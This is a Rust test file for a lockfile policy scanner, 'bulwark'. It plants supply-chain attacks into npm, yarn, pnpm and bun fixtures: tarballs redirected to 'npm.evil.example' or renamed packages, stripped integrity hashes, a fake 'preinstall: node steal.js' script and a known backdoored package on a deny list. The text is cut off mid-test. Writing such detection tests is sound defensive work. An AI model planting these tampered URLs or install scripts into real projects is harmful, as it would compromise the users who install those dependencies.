//! End-to-end tests of the policy (`bulwark.toml`) in `bulwark scan`: every check passes on
//! the lockfiles the real package managers wrote (npm, yarn classic, yarn berry, pnpm, bun)
//! and fails on the same lockfiles with one planted problem; the minimum release age is
//! checked against recorded packuments served by a local HTTP server; the SARIF output
//! validates against the official schema; config mistakes point at their line and column.

mod common;

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

use common::{assert_validates, bulwark_command, json, repo_root, run, sarif_schema};

fn generated(manager: &str) -> PathBuf {
    repo_root()
        .join("crates/bulwark-lockfile/tests/fixtures/generated")
        .join(manager)
}

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/policy_fixtures")
}

/// The five lockfile formats: fixture folder and lockfile name.
const FORMATS: [(&str, &str); 5] = [
    ("npm", "package-lock.json"),
    ("yarn1", "yarn.lock"),
    ("yarn4", "yarn.lock"),
    ("pnpm9", "pnpm-lock.yaml"),
    ("bun", "bun.lock"),
];

/// Copies a fixture directory (manifests and lockfile; never `node_modules`).
fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let name = entry.file_name();
        if name == "node_modules" {
            continue;
        }
        let target = to.join(&name);
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

fn project(from: &Path) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_dir(from, dir.path());
    dir
}

/// Replaces `from` (which must occur) by `to` in `file`; `all` replaces every occurrence,
/// otherwise `from` must occur exactly once.
fn plant(dir: &Path, file: &str, from: &str, to: &str, all: bool) {
    let path = dir.join(file);
    let text = std::fs::read_to_string(&path).unwrap();
    let count = text.matches(from).count();
    if all {
        assert!(count > 0, "{file}: `{from}` not found");
    } else {
        assert_eq!(count, 1, "{file}: `{from}` found {count} times");
    }
    std::fs::write(&path, text.replace(from, to)).unwrap();
}

fn bulwark(dir: &Path, args: &[&str]) -> Output {
    let cache = dir.join(".publish-times.json");
    run(bulwark_command()
        .arg("scan")
        .arg(dir)
        .args(["--no-db", "--no-analysis", "--time-cache"])
        .arg(&cache)
        .args(args)
        .env_remove("BULWARK_REGISTRY"))
}

/// Scans with `--format json` (offline unless `args` say otherwise) and returns the exit
/// code and the policy's violations.
fn violations(dir: &Path, args: &[&str]) -> (i32, Vec<serde_json::Value>) {
    let mut all = vec!["--format", "json"];
    all.extend_from_slice(args);
    let output = bulwark(dir, &all);
    let report = json(&output);
    let violations = report["policy"]["violations"]
        .as_array()
        .unwrap_or_else(|| panic!("no policy section: {report}"))
        .clone();
    (output.status.code().unwrap_or(-1), violations)
}

fn describe(violations: &[serde_json::Value]) -> String {
    violations
        .iter()
        .map(|v| format!("{} {} {}", v["level"], v["check"], v["message"]))
        .collect::<Vec<_>>()
        .join("\n")
}

/// A strict policy that the untouched fixtures of every manager satisfy.
const STRICT: &str = r#"
[registries]
level = "deny"
allow = ["registry.npmjs.org", "registry.yarnpkg.com"]

[sources]
git = "deny"
remote-tarball = "deny"
file = "deny"
link = "deny"
allow = [
  { name = "is-odd", reason = "pinned tarball URL dependency (bun records the URL as its version)" },
  { name = "bulwark-local-dep", reason = "our vendored helper" },
]

[integrity]
missing = "deny"
weak = "deny"
ignore = [
  { name = "is-odd", reason = "yarn 1 records only the sha1 of URL dependencies" },
  { name = "@esbuild/*", reason = "yarn berry locks other platforms' packages without a checksum" },
  { name = "fsevents", reason = "yarn berry locks other platforms' packages without a checksum" },
]

[resolved-url]
level = "deny"

[pinning]
dependencies = "deny"
dev-dependencies = "deny"
optional-dependencies = "deny"

[drift]
level = "deny"

[packages]
deny = [{ name = "event-stream", version = "3.3.6", reason = "flatmap-stream backdoor" }]

[install-scripts]
level = "deny"
allow = [{ name = "esbuild", version = "0.20.2", reason = "downloads its platform binary" }]
"#;

fn strict_project(manager: &str) -> tempfile::TempDir {
    let dir = project(&generated(manager));
    std::fs::write(dir.path().join("bulwark.toml"), STRICT).unwrap();
    dir
}

#[test]
fn untouched_lockfiles_of_every_manager_pass_the_strict_policy() {
    for (manager, _) in FORMATS {
        let dir = strict_project(manager);
        let (code, found) = violations(dir.path(), &["--offline"]);
        assert_eq!(code, 0, "{manager}:\n{}", describe(&found));
        assert!(found.is_empty(), "{manager}:\n{}", describe(&found));
    }
}

/// One planted problem: (manager, file, from, to, replace all).
/// Whether `found` holds a deny-level `check` violation about `package`.
fn denied(found: &[serde_json::Value], check: &str, package: &str) -> bool {
    found
        .iter()
        .any(|v| v["check"] == check && v["level"] == "deny" && v["package"]["name"] == package)
}

/// Scans `dir` offline and expects exit code 1 with a deny-level `check` violation about
/// `package`.
fn expect_denied_offline(dir: &Path, check: &str, package: &str) {
    let (code, found) = violations(dir, &["--offline"]);
    assert_eq!(code, 1);
    assert!(denied(&found, check, package), "{}", describe(&found));
}

type Planting = (&'static str, &'static str, &'static str, &'static str, bool);

/// Plants each row into a fresh copy of its manager's fixture and expects a deny-level
/// `check` violation about `package` (exit code 1).
fn expect_each(check: &str, package: &str, rows: &[Planting]) {
    for (manager, file, from, to, all) in rows {
        let dir = strict_project(manager);
        plant(dir.path(), file, from, to, *all);
        let (code, found) = violations(dir.path(), &["--offline"]);
        let hit = found.iter().find(|v| {
            v["check"] == check && v["level"] == "deny" && v["package"]["name"] == package
        });
        assert!(
            hit.is_some(),
            "{manager}: no deny `{check}` for {package}:\n{}",
            describe(&found)
        );
        assert_eq!(code, 1, "{manager}: a deny-level violation exits with 1");
        let location = &hit.unwrap()["location"];
        assert!(
            location["line"].as_u64().unwrap() > 0,
            "{manager}: {check} has a line: {location}"
        );
    }
}

const CHALK_SRI: &str = "sha512-oKnbhFyRIXpUuez8iBMmyEa4nbj4IOQyuhc/wy9kY7/WVPcwIO9VA668Pu8RkO7+0G76SLROeyw9CpQ061i4mA==";
const CHALK_SHA1_SRI: &str = "sha1-qsTit3NKdAhnrrFr8CqtVWoeegE=";
const IS_ODD_URL: &str = "https://registry.npmjs.org/is-odd/-/is-odd-3.0.1.tgz";

/// Moves chalk's tarball to `npm_host` (`yarn_host` in yarn 1, which records yarnpkg.com) in
/// every format that records registry URLs, and is-odd's URL dependency to `npm_host` in
/// yarn berry (which records URLs only for URL dependencies); expects a deny-level `check`
/// violation about each.
fn expect_moved_tarballs_flagged(check: &str, npm_host: &str, yarn_host: &str) {
    expect_each(
        check,
        "chalk",
        &[
            (
                "npm",
                "package-lock.json",
                "\"https://registry.npmjs.org/chalk/-/chalk-4.1.2.tgz\"",
                leak(format!("\"{npm_host}/chalk/-/chalk-4.1.2.tgz\"")),
                false,
            ),
            (
                "yarn1",
                "yarn.lock",
                "\"https://registry.yarnpkg.com/chalk/-/chalk-4.1.2.tgz#",
                leak(format!("\"{yarn_host}/chalk/-/chalk-4.1.2.tgz#")),
                false,
            ),
            (
                "pnpm9",
                "pnpm-lock.yaml",
                leak(format!("resolution: {{integrity: {CHALK_SRI}}}")),
                leak(format!(
                    "resolution: {{integrity: {CHALK_SRI}, tarball: {npm_host}/chalk/-/chalk-4.1.2.tgz}}"
                )),
                false,
            ),
            (
                "bun",
                "bun.lock",
                "\"chalk\": [\"chalk@4.1.2\", \"\",",
                leak(format!("\"chalk\": [\"chalk@4.1.2\", \"{npm_host}/\",")),
                false,
            ),
        ],
    );
    let moved = format!("{npm_host}/is-odd/-/is-odd-3.0.1.tgz");
    let dir = strict_project("yarn4");
    plant(dir.path(), "yarn.lock", IS_ODD_URL, &moved, true);
    plant(dir.path(), "package.json", IS_ODD_URL, &moved, true);
    let (code, found) = violations(dir.path(), &["--offline"]);
    assert_eq!(code, 1, "{}", describe(&found));
    assert!(
        found
            .iter()
            .any(|v| v["check"] == check && v["package"]["name"] == "is-odd"),
        "{}",
        describe(&found)
    );
}

#[test]
fn insecure_scheme_in_every_format() {
    expect_moved_tarballs_flagged(
        "insecure-scheme",
        "http://registry.npmjs.org",
        "http://registry.yarnpkg.com",
    );
}

#[test]
fn unapproved_registry_in_every_format() {
    expect_moved_tarballs_flagged(
        "registry-not-allowed",
        "https://npm.evil.example",
        "https://npm.evil.example",
    );
}

#[test]
fn missing_integrity_in_every_format() {
    let npm_line = format!("      \"integrity\": \"{CHALK_SRI}\",\n");
    let yarn4_line = "  checksum: 10c0/4a3fef5cc34975c898ffe77141450f679721df9dde00f6c304353fa9c8b571929123b26a0e4617bde5018977eb655b31970c297b91b63ee83bb82aeb04666880\n";
    let bun_entry = format!(
        "{{ \"ansi-styles\": \"^4.1.0\", \"supports-color\": \"^7.1.0\" }} }}, \"{CHALK_SRI}\"]"
    );
    let bun_stripped = "{ \"ansi-styles\": \"^4.1.0\", \"supports-color\": \"^7.1.0\" } }]";
    let pnpm_from = format!("resolution: {{integrity: {CHALK_SRI}}}");
    let pnpm_to = "resolution: {tarball: https://registry.npmjs.org/chalk/-/chalk-4.1.2.tgz}";
    let rows: Vec<Planting> = vec![
        ("npm", "package-lock.json", leak(npm_line), "", false),
        ("yarn4", "yarn.lock", yarn4_line, "", false),
        ("pnpm9", "pnpm-lock.yaml", leak(pnpm_from), pnpm_to, false),
        ("bun", "bun.lock", leak(bun_entry), bun_stripped, false),
    ];
    expect_each("integrity-missing", "chalk", &rows);
}

#[test]
fn sha1_only_integrity_in_every_format() {
    let yarn1_line = format!("  integrity {CHALK_SRI}\n");
    let rows: Vec<Planting> = vec![
        // yarn 1 then has only the sha1 of the `#` fragment.
        ("yarn1", "yarn.lock", leak(yarn1_line), "", false),
        ("npm", "package-lock.json", CHALK_SRI, CHALK_SHA1_SRI, false),
        ("pnpm9", "pnpm-lock.yaml", CHALK_SRI, CHALK_SHA1_SRI, false),
        ("bun", "bun.lock", CHALK_SRI, CHALK_SHA1_SRI, false),
    ];
    expect_each("integrity-weak", "chalk", &rows);
    // yarn berry's checksum is always the sha512 of its own zip: nothing to weaken.
}

#[test]
fn poisoned_resolved_url_in_every_format() {
    expect_each(
        "resolved-url-mismatch",
        "chalk",
        &[
            // (npm's extractor takes a different name in the URL as an alias; direct
            // dependencies then drift, see `npm_name_swap_is_drift`.)
            (
                "npm",
                "package-lock.json",
                "\"https://registry.npmjs.org/chalk/-/chalk-4.1.2.tgz\"",
                "\"https://registry.npmjs.org/chalk/-/chalk-4.1.3.tgz\"",
                false,
            ),
            (
                "yarn1",
                "yarn.lock",
                "\"https://registry.yarnpkg.com/chalk/-/chalk-4.1.2.tgz#",
                "\"https://registry.yarnpkg.com/chalk-evil/-/chalk-evil-4.1.2.tgz#",
                false,
            ),
            (
                "pnpm9",
                "pnpm-lock.yaml",
                "resolution: {integrity: sha512-oKnbhFyRIXpUuez8iBMmyEa4nbj4IOQyuhc/wy9kY7/WVPcwIO9VA668Pu8RkO7+0G76SLROeyw9CpQ061i4mA==}",
                "resolution: {integrity: sha512-oKnbhFyRIXpUuez8iBMmyEa4nbj4IOQyuhc/wy9kY7/WVPcwIO9VA668Pu8RkO7+0G76SLROeyw9CpQ061i4mA==, tarball: https://registry.npmjs.org/evil-chalk/-/evil-chalk-4.1.2.tgz}",
                false,
            ),
        ],
    );
    expect_each(
        "resolved-url-mismatch",
        "is-odd",
        &[
            (
                "yarn4",
                "yarn.lock",
                "resolution: \"is-odd@https://registry.npmjs.org/is-odd/-/is-odd-3.0.1.tgz\"",
                "resolution: \"is-odd@https://registry.npmjs.org/is-even/-/is-even-1.0.0.tgz\"",
                false,
            ),
            (
                "bun",
                "bun.lock",
                "[\"is-odd@https://registry.npmjs.org/is-odd/-/is-odd-3.0.1.tgz\"",
                "[\"is-odd@https://registry.npmjs.org/evil/-/evil-3.0.1.tgz\"",
                false,
            ),
        ],
    );
}

#[test]
fn npm_name_swap_is_drift() {
    let dir = strict_project("npm");
    plant(
        dir.path(),
        "package-lock.json",
        "\"https://registry.npmjs.org/chalk/-/chalk-4.1.2.tgz\"",
        "\"https://registry.npmjs.org/chalk-evil/-/chalk-evil-4.1.2.tgz\"",
        false,
    );
    expect_denied_offline(dir.path(), "lockfile-drift", "chalk-evil");
}

#[test]
fn unpinned_direct_dependency_in_every_format() {
    for (manager, _) in FORMATS {
        let dir = strict_project(manager);
        plant(
            dir.path(),
            "package.json",
            "\"chalk\": \"4.1.2\"",
            "\"chalk\": \"^4.1.2\"",
            false,
        );
        let (code, found) = violations(dir.path(), &["--offline"]);
        let hit = found
            .iter()
            .find(|v| v["check"] == "unpinned-dependency")
            .unwrap_or_else(|| panic!("{manager}:\n{}", describe(&found)));
        assert_eq!(code, 1);
        assert_eq!(hit["level"], "deny");
        assert_eq!(hit["location"]["file"], "package.json");
        assert_eq!(hit["package"]["name"], "chalk");
        assert_eq!(hit["package"]["version"], "^4.1.2");
        let line = hit["location"]["line"].as_u64().unwrap() as usize;
        let manifest = std::fs::read_to_string(dir.path().join("package.json")).unwrap();
        assert!(
            manifest
                .lines()
                .nth(line - 1)
                .unwrap()
                .contains("\"chalk\""),
            "{manager}: line {line}"
        );
    }
}

#[test]
fn lockfile_drift_in_every_format() {
    for (manager, _) in FORMATS {
        let dir = strict_project(manager);
        plant(
            dir.path(),
            "package.json",
            "\"chalk\": \"4.1.2\"",
            "\"chalk\": \"5.0.0\"",
            false,
        );
        plant(
            dir.path(),
            "package.json",
            "\"debug\": \"4.3.4\",",
            "\"debug\": \"4.3.4\",\n    \"left-pad\": \"1.3.0\",",
            false,
        );
        let (code, found) = violations(dir.path(), &["--offline"]);
        assert_eq!(code, 1, "{manager}");
        for name in ["chalk", "left-pad"] {
            assert!(
                denied(&found, "lockfile-drift", name),
                "{manager}: no drift for {name}:\n{}",
                describe(&found)
            );
        }
    }
}

#[test]
fn deny_list_and_approved_only_in_every_format() {
    for (manager, _) in FORMATS {
        let dir = strict_project(manager);
        let policy = STRICT.replace(
            "deny = [{ name = \"event-stream\", version = \"3.3.6\", reason = \"flatmap-stream backdoor\" }]",
            "deny = [{ name = \"chalk\", version = \"4.x\", reason = \"replaced by picocolors\" }]",
        );
        std::fs::write(dir.path().join("bulwark.toml"), &policy).unwrap();
        let (code, found) = violations(dir.path(), &["--offline"]);
        assert_eq!(code, 1, "{manager}");
        let denied: Vec<_> = found
            .iter()
            .filter(|v| v["check"] == "package-denied")
            .collect();
        assert_eq!(denied.len(), 1, "{manager}:\n{}", describe(&found));
        assert_eq!(denied[0]["package"]["name"], "chalk");

        let approved_only = STRICT.replace(
            "[packages]\n",
            "[packages]\nlevel = \"warn\"\napproved-only = true\nallow = [{ name = \"chalk\", reason = \"reviewed\" }, { name = \"@esbuild/*\", reason = \"esbuild's binaries\" }]\n",
        );
        std::fs::write(dir.path().join("bulwark.toml"), &approved_only).unwrap();
        let (code, found) = violations(dir.path(), &["--offline"]);
        assert_eq!(code, 0, "{manager}: warn only");
        let unapproved: Vec<&str> = found
            .iter()
            .filter(|v| v["check"] == "package-not-approved")
            .map(|v| v["package"]["name"].as_str().unwrap())
            .collect();
        assert!(unapproved.contains(&"debug"), "{manager}: {unapproved:?}");
        assert!(
            !unapproved.contains(&"chalk"),
            "{manager}: chalk is approved"
        );
        assert!(
            !unapproved.iter().any(|name| name.starts_with("@esbuild/")),
            "{manager}: the scope is approved"
        );
    }
}

/// Installs a fake package directory (only its `package.json`) under `node_modules`.
fn installed(dir: &Path, name: &str, version: &str, scripts: &str) {
    let package = dir.join("node_modules").join(name);
    std::fs::create_dir_all(&package).unwrap();
    std::fs::write(
        package.join("package.json"),
        format!(r#"{{"name":"{name}","version":"{version}","scripts":{{{scripts}}}}}"#),
    )
    .unwrap();
}

#[test]
fn install_scripts_in_every_format() {
    for (manager, _) in FORMATS {
        let dir = strict_project(manager);
        installed(
            dir.path(),
            "esbuild",
            "0.20.2",
            r#""postinstall":"node install.js""#,
        );
        installed(dir.path(), "chalk", "4.1.2", r#""test":"ava""#);
        let (code, found) = violations(dir.path(), &["--offline"]);
        assert_eq!(
            code,
            0,
            "{manager}: esbuild is allowed:\n{}",
            describe(&found)
        );
        installed(
            dir.path(),
            "debug",
            "4.3.4",
            r#""preinstall":"node steal.js""#,
        );
        let (code, found) = violations(dir.path(), &["--offline"]);
        assert_eq!(code, 1, "{manager}");
        let scripts: Vec<_> = found
            .iter()
            .filter(|v| v["check"] == "install-script-not-allowed")
            .collect();
        assert_eq!(
            scripts.len(),
            1,
            "{manager}: once, not per project:\n{}",
            describe(&found)
        );
        assert_eq!(scripts[0]["package"]["name"], "debug");
        assert!(
            scripts[0]["message"]
                .as_str()
                .unwrap()
                .contains("preinstall: `node steal.js`")
        );
    }
}

#[test]
fn npm_lockfile_install_scripts_without_node_modules() {
    let dir = strict_project("npm");
    let policy = STRICT.replace(
        "allow = [{ name = \"esbuild\", version = \"0.20.2\", reason = \"downloads its platform binary\" }]",
        "allow = [{ name = \"esbuild\", version = \"0.19.x\", reason = \"an older pin\" }]",
    );
    std::fs::write(dir.path().join("bulwark.toml"), policy).unwrap();
    let (code, found) = violations(dir.path(), &["--offline"]);
    assert_eq!(code, 1);
    let hit = found
        .iter()
        .find(|v| v["check"] == "install-script-not-allowed")
        .unwrap_or_else(|| panic!("{}", describe(&found)));
    assert_eq!(hit["package"]["name"], "esbuild");
    assert!(
        hit["message"]
            .as_str()
            .unwrap()
            .contains("hasInstallScript")
    );
}

/// A registry on 127.0.0.1 serving recorded packuments from `policy_fixtures/packuments`;
/// it answers until dropped and counts the requests.
struct Registry {
    url: String,
    requests: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Registry {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let requests = Arc::new(AtomicUsize::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let (count, stopped) = (requests.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            for stream in listener.incoming().take(1000) {
                if stopped.load(Ordering::SeqCst) {
                    break;
                }
                let Ok(stream) = stream else { continue };
                count.fetch_add(1, Ordering::SeqCst);
                serve(stream);
            }
        });
        Self {
            url,
            requests,
            stop,
            thread: Some(thread),
        }
    }

    fn requests(&self) -> usize {
        self.requests.load(Ordering::SeqCst)
    }
}

impl Drop for Registry {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        let _ = TcpStream::connect(self.url.trim_start_matches("http://"));
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

fn serve(stream: TcpStream) {
    let mut reader = BufReader::new(&stream);
    let mut request_line = String::new();
    if reader.read_line(&mut request_line).is_err() {
        return;
    }
    loop {
        let mut header = String::new();
        if reader.read_line(&mut header).unwrap_or(0) == 0 || header == "\r\n" {
            break;
        }
    }
    let path = request_line.split_whitespace().nth(1).unwrap_or("/");
    let name = path.trim_start_matches('/').replace("%2f", "/");
    let file = fixtures().join("packuments").join(format!("{name}.json"));
    let (status, body) = if !name.contains("..") && file.is_file() {
        ("200 OK", std::fs::read(&file).unwrap())
    } else {
        ("404 Not Found", b"{\"error\":\"Not found\"}".to_vec())
    };
    let mut stream = &stream;
    let _ = write!(
        stream,
        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let _ = stream.write_all(&body);
    let _ = stream.flush();
    let mut rest = Vec::new();
    let _ = reader.read_to_end(&mut rest);
}

fn age_project(manager: &str, policy: &str) -> tempfile::TempDir {
    let dir = project(&fixtures().join("age").join(manager));
    std::fs::write(dir.path().join("bulwark.toml"), policy).unwrap();
    dir
}

#[test]
fn minimum_release_age_from_recorded_packuments_in_every_format() {
    let registry = Registry::start();
    for (manager, lockfile) in FORMATS {
        let dir = age_project(
            manager,
            "[release-age]\nlevel = \"deny\"\nminimum = \"7d\"\n",
        );
        let before = registry.requests();
        let (code, found) = violations(dir.path(), &["--registry", &registry.url]);
        assert_eq!(code, 0, "{manager}:\n{}", describe(&found));
        assert!(found.is_empty(), "{manager}:\n{}", describe(&found));
        assert_eq!(
            registry.requests() - before,
            2,
            "{manager}: one packument per package"
        );
        assert!(dir.path().join(".publish-times.json").is_file());

        // A minimum of 100 years makes the recorded versions too recent; the cache answers.
        let policy = "[release-age]\nlevel = \"deny\"\nminimum = \"36500d\"\n";
        std::fs::write(dir.path().join("bulwark.toml"), policy).unwrap();
        let before = registry.requests();
        let (code, found) = violations(dir.path(), &["--registry", &registry.url]);
        assert_eq!(
            registry.requests(),
            before,
            "{manager}: served from the cache"
        );
        assert_eq!(code, 1, "{manager}");
        let recent: Vec<_> = found
            .iter()
            .filter(|v| v["check"] == "release-too-recent" && v["level"] == "deny")
            .collect();
        assert_eq!(recent.len(), 2, "{manager}:\n{}", describe(&found));
        let ms = recent
            .iter()
            .find(|v| v["package"]["name"] == "ms")
            .unwrap();
        assert_eq!(ms["package"]["version"], "2.1.3");
        assert!(
            ms["message"].as_str().unwrap().contains("(2024-02-23)"),
            "{}",
            ms["message"]
        );
        assert_eq!(ms["location"]["file"], lockfile);

        // Offline with the cache: no request, same answer.
        let before = registry.requests();
        let (code, _) = violations(dir.path(), &["--offline", "--registry", &registry.url]);
        assert_eq!((code, registry.requests()), (1, before), "{manager}");
    }
}

#[test]
fn offline_without_cache_names_what_it_could_not_date() {
    let registry = Registry::start();
    let dir = age_project("pnpm9", "[release-age]\nminimum = \"7d\"\n");
    let output = bulwark(
        dir.path(),
        &["--format", "json", "--offline", "--registry", &registry.url],
    );
    assert_eq!(registry.requests(), 0, "offline means no request");
    assert_eq!(
        output.status.code(),
        Some(0),
        "unknown is a warning by default"
    );
    let report = json(&output);
    let undated = report["policy"]["undated"].as_object().unwrap();
    assert_eq!(undated.len(), 2);
    assert!(undated["ms"].as_str().unwrap().contains("offline"));
    let unknown: Vec<_> = report["policy"]["violations"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|v| v["check"] == "release-age-unknown" && v["level"] == "warn")
        .collect();
    assert_eq!(unknown.len(), 2);
    let human = bulwark(dir.path(), &["--offline"]);
    let text = String::from_utf8(human.stdout).unwrap();
    assert!(
        text.contains("could not date 2 packages for the minimum release age: left-pad, ms"),
        "{text}"
    );
}

#[test]
fn unknown_packages_on_the_registry_are_undated() {
    let registry = Registry::start();
    let dir = age_project(
        "npm",
        "[release-age]\nminimum = \"7d\"\nunknown = \"deny\"\n",
    );
    plant(
        dir.path(),
        "package-lock.json",
        "\"node_modules/ms\"",
        "\"node_modules/ms-missing\"",
        false,
    );
    plant(
        dir.path(),
        "package-lock.json",
        "\"ms\": \"2.1.3\"",
        "\"ms-missing\": \"2.1.3\"",
        false,
    );
    plant(
        dir.path(),
        "package-lock.json",
        "/ms/-/ms-2.1.3.tgz",
        "/ms-missing/-/ms-missing-2.1.3.tgz",
        false,
    );
    let output = bulwark(
        dir.path(),
        &["--format", "json", "--registry", &registry.url],
    );
    let report = json(&output);
    assert_eq!(output.status.code(), Some(1));
    let undated = report["policy"]["undated"].as_object().unwrap();
    assert!(
        undated["ms-missing"].as_str().unwrap().contains("404"),
        "{undated:?}"
    );
}

#[test]
fn sarif_output_validates_against_the_official_schema() {
    let schema = sarif_schema();
    let dir = strict_project("npm");
    plant(
        dir.path(),
        "package.json",
        "\"chalk\": \"4.1.2\"",
        "\"chalk\": \"^4.1.2\"",
        false,
    );
    plant(
        dir.path(),
        "package-lock.json",
        "\"https://registry.npmjs.org/chalk/-/chalk-4.1.2.tgz\"",
        "\"http://registry.npmjs.org/chalk/-/chalk-4.1.2.tgz\"",
        false,
    );
    let sarif_path = dir.path().join("bulwark.sarif");
    let output = bulwark(
        dir.path(),
        &[
            "--offline",
            "--format",
            "sarif",
            "-o",
            sarif_path.to_str().unwrap(),
        ],
    );
    assert_eq!(output.status.code(), Some(1));
    let log: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&sarif_path).unwrap()).unwrap();
    assert_eq!(log["version"], "2.1.0");
    let run = &log["runs"][0];
    let rules: Vec<&str> = run["tool"]["driver"]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"insecure-scheme") && rules.contains(&"unpinned-dependency"));
    let results = run["results"].as_array().unwrap();
    let unpinned = results
        .iter()
        .find(|r| r["ruleId"] == "unpinned-dependency")
        .unwrap();
    assert_eq!(unpinned["level"], "error");
    let location = &unpinned["locations"][0]["physicalLocation"];
    assert_eq!(location["artifactLocation"]["uri"], "package.json");
    assert_eq!(location["artifactLocation"]["uriBaseId"], "%SRCROOT%");
    assert!(location["region"]["startLine"].as_u64().unwrap() > 1);
    let scheme = results
        .iter()
        .find(|r| r["ruleId"] == "insecure-scheme")
        .unwrap();
    assert_eq!(
        scheme["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "package-lock.json"
    );
    assert!(scheme["partialFingerprints"]["bulwark/v1"].is_string());
    for result in results {
        let index = result["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[index], result["ruleId"].as_str().unwrap());
    }
    assert_validates(&schema, &sarif_path, "SARIF");
}

/// The demo project with `debug` resolved to the compromised 4.4.2 of the September 2025
/// incident (in the built-in feed).
fn planted_demo() -> tempfile::TempDir {
    let dir = project(&repo_root().join("examples/demo-project"));
    plant(
        dir.path(),
        "package-lock.json",
        "\"debug\": \"4.3.4\"",
        "\"debug\": \"4.4.2\"",
        true,
    );
    plant(
        dir.path(),
        "package-lock.json",
        "\"version\": \"4.3.4\"",
        "\"version\": \"4.4.2\"",
        true,
    );
    plant(
        dir.path(),
        "package-lock.json",
        "debug-4.3.4.tgz",
        "debug-4.4.2.tgz",
        true,
    );
    plant(
        dir.path(),
        "package.json",
        "\"debug\": \"4.3.4\"",
        "\"debug\": \"4.4.2\"",
        true,
    );
    dir
}

#[test]
fn findings_are_mapped_to_policy_levels() {
    let dir = planted_demo();
    std::fs::write(dir.path().join("bulwark.toml"), "").unwrap();
    let (code, found) = violations(dir.path(), &["--offline", "--fail-on", "never"]);
    assert_eq!(
        code,
        1,
        "malicious is deny by default:\n{}",
        describe(&found)
    );
    let malicious: Vec<_> = found
        .iter()
        .filter(|v| v["check"] == "malicious-package")
        .collect();
    assert_eq!(malicious.len(), 1);
    assert_eq!(malicious[0]["package"]["name"], "debug");
    assert_eq!(malicious[0]["location"]["file"], "package-lock.json");

    std::fs::write(
        dir.path().join("bulwark.toml"),
        "[findings]\nignore = [{ name = \"debug\", version = \"4.4.2\", reason = \"test: the planted version\" }]\n",
    )
    .unwrap();
    let (code, found) = violations(dir.path(), &["--offline", "--fail-on", "never"]);
    assert_eq!(code, 0, "{}", describe(&found));
    assert!(!found.iter().any(|v| v["check"] == "malicious-package"));
}

#[test]
fn github_annotations() {
    let dir = planted_demo();
    std::fs::write(
        dir.path().join("bulwark.toml"),
        "[pinning]\ndependencies = \"deny\"\n",
    )
    .unwrap();
    plant(
        dir.path(),
        "package.json",
        "\"chalk\": \"4.1.2\"",
        "\"chalk\": \"^4.1.2\"",
        false,
    );
    let output = bulwark(dir.path(), &["--offline", "--format", "github"]);
    assert_eq!(output.status.code(), Some(1));
    let text = String::from_utf8(output.stdout).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with("::error file=package-lock.json,line=")
                && l.contains("title=bulwark%3A compromised-version debug@4.4.2::")),
        "{text}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with("::error file=package.json,line=")
                && l.contains("unpinned-dependency chalk@^4.1.2")),
        "{text}"
    );
    assert!(lines.last().unwrap().starts_with("bulwark: "), "{text}");
}

#[test]
fn invalid_config_points_at_line_and_column_and_exits_2() {
    let dir = strict_project("npm");
    std::fs::write(
        dir.path().join("bulwark.toml"),
        "[packages]\nlevel = \"deny\"\nlevl = \"warn\"\ndeny = [{ name = \"a[b]\", reason = \"x\" }]\n",
    )
    .unwrap();
    let output = bulwark(dir.path(), &["--offline"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(output.stdout.is_empty(), "nothing is scanned");
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert!(stderr.contains("error: unknown key `levl`"), "{stderr}");
    assert!(stderr.contains("bulwark.toml:3:1\n"), "{stderr}");
    assert!(
        stderr.contains("3 | levl = \"warn\"\n  | ^^^^ unknown key"),
        "{stderr}"
    );
    assert!(
        stderr.contains("is not a valid policy (1 error)"),
        "{stderr}"
    );
    // Once the key is fixed, the glob is next (unknown keys stop the first phase).
    std::fs::write(
        dir.path().join("bulwark.toml"),
        "[packages]\nlevel = \"deny\"\ndeny = [{ name = \"a[b]\", reason = \"x\" }]\n",
    )
    .unwrap();
    let stderr = String::from_utf8(bulwark(dir.path(), &["--offline"]).stderr).unwrap();
    assert!(stderr.contains("error: invalid glob `a[b]`"), "{stderr}");
    assert!(stderr.contains("bulwark.toml:3:19"), "{stderr}");
    let missing = bulwark(dir.path(), &["--config", "/nonexistent/bulwark.toml"]);
    assert_eq!(missing.status.code(), Some(2));
}

#[test]
fn expired_entries_warn_and_stop_applying() {
    let dir = strict_project("npm");
    let policy = STRICT.replace(
        "{ name = \"bulwark-local-dep\", reason = \"our vendored helper\" },",
        "{ name = \"bulwark-local-dep\", reason = \"our vendored helper\", expires = \"2020-01-01\" },",
    );
    std::fs::write(dir.path().join("bulwark.toml"), &policy).unwrap();
    let output = bulwark(dir.path(), &["--offline", "--format", "json"]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
